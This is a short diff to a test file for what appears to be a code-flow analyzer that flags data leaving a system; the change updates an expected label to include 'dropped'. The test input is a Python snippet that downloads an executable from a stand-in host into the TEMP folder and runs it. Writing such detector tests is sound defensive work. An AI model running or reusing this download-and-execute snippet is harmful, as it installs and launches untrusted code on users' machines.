@@ -170,7 +170,7 @@ describe('data that leaves', () => {
       flows(
         'import os, urllib.request\np = os.path.join(os.getenv("TEMP"), "x.exe")\nurllib.request.urlretrieve("https://x.example/x.exe", p)\nos.startfile(p)',
       ),
-    ).toContain('envNamed+network > os.startfile');
+    ).toContain('envNamed+network+dropped > os.startfile');
   });
 });
 
